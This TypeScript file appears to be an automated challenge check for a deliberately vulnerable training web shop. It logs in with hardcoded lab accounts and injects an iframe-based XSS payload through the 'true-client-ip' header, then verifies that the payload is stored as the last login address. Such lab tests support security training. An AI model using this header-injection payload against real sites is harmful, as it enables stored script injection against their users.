import type { Attack, Tools } from '#lab'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

async function saveAddress(
  { http, settings, expect }: Tools,
  email: string,
  password: string,
): Promise<void> {
  const login = await http.post('/rest/user/login', { email: `${email}@${settings.domain}`, password })
  const { token } = login.json<{ authentication: { token: string } }>().authentication
  const answer = await http.get('/rest/saveLoginIp', { token, headers: { 'true-client-ip': PAYLOAD } })
  expect(answer.status === 200, `the shop answered with ${answer.status}`)
  expect(answer.json<{ lastLoginIp: string }>().lastLoginIp === PAYLOAD, 'another address was noted')
}

export const attacks: Attack[] = [
  {
    challenge: 'httpHeaderXssChallenge',
    name: 'Jim comes from a player',
    run: (tools) => saveAddress(tools, 'jim', 'ncc-1701'),
  },
  {
    challenge: 'httpHeaderXssChallenge',
    name: 'the administrator’s address is replaced',
    run: (tools) => saveAddress(tools, 'admin', 'admin123'),
  },
]
